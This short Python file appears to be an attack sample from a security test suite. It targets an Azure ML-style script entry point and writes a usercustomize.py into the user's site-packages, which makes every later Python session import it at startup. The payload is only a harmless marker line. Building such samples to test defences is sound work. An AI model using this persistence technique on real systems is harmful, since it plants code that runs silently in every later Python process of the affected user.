"""Leaves a module that every Python of the person imports at its start."""

import os
import sys

from attack import BAIT, attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    version = "python%d.%d" % sys.version_info[:2]
    folder = os.path.join(BAIT["home"], ".local", "lib", version, "site-packages")
    os.makedirs(folder)
    with open(os.path.join(folder, "usercustomize.py"), "w") as stream:
        stream.write("hostile = True\n")
    return f"wrote into {folder}"
